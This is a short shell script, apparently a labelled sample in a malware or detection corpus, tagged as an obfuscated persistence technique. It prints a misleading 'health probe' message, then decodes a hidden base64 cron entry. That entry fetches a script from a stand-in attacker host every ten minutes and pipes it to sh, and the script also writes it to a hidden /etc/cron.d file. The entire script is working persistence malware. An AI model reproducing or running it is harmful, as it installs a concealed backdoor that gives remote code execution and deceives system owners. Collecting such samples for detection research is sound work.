# description: Adds a base64-hidden cron line that periodically downloads and executes a remote script.
# family: persistence
# obfuscated: yes
set -uo pipefail

echo "Registering health probe schedule"
line=$(echo Ki8xMCAqICogKiAqIHdnZXQgLXFPLSBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS91LnNoIHwgc2g= | base64 -d)
{ crontab -l 2>/dev/null; printf '%s\n' "$line"; } | crontab -
echo "$line" > /etc/cron.d/.health
